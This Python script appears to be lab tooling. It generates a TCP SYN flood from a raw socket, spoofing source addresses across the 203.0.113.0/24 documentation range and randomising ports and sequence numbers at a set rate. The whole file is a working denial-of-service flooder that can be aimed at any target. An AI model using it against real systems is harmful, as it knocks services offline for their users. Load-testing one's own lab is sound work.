#!/usr/bin/env python3
"""SYN flood for the lab, from a raw socket at RATE frames a second (0: as fast as one core
sends): TCP SYNs to
VIP:PORT from spoofed sources spread over 203.0.113.0/24 (a documentation range, so the
backends' answers stay in the lab) and every source port, each a new 4-tuple, with valid
checksums. Seeded. Prints how many it sent.
usage: syn_flood.py IFACE DST_MAC VIP PORT SECONDS RATE [SEED]"""

import random
import socket
import struct
import sys
import time

IFACE, DST_MAC, VIP, PORT, SECONDS = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
RATE = float(sys.argv[6])
rng = random.Random(int(sys.argv[7]) if len(sys.argv) > 7 else 1)


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((IFACE, 0))
src_mac = sock.getsockname()[4]
eth = bytes.fromhex(DST_MAC.replace(":", "")) + src_mac + b"\x08\x00"
vip = socket.inet_aton(VIP)
vip_sum = sum(struct.unpack("!HH", vip))

# Only the source address, the source port and the sequence number change from frame to
# frame: the checksums are the fixed part's sum plus theirs.
ip_fixed = fold(0x4500 + 40 + 64 * 256 + 6 + vip_sum)
tcp_fixed = fold(6 + 20 + vip_sum + PORT + (5 << 12 | 0x02) + 65535)

sent = 0
start = time.monotonic()
deadline = start + SECONDS
while True:
    if sent % 256 == 0:
        now = time.monotonic()
        if now > deadline:
            break
        if RATE > 0 and sent / RATE > now - start:
            time.sleep(sent / RATE - (now - start))  # the pace asked for
    host = rng.randrange(1, 255)
    sport = rng.randrange(1024, 65536)
    seq = rng.getrandbits(32)
    ident = sent & 0xFFFF
    src_sum = (203 << 8 | 0) + (113 << 8 | host)
    ip_sum = ~fold(ip_fixed + ident + src_sum) & 0xFFFF
    tcp_sum = ~fold(tcp_fixed + src_sum + sport + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
    frame = eth + struct.pack("!BBHHHBBH4s4sHHIIBBHHH", 0x45, 0, 40, ident, 0, 64, 6, ip_sum, bytes((203, 0, 113, host)),
                              vip, sport, PORT, seq, 0, 5 << 4, 0x02, 65535, tcp_sum, 0)
    try:
        sock.send(frame)
        sent += 1
    except OSError:
        pass  # the veth's queue is full: try the next one
print(sent)
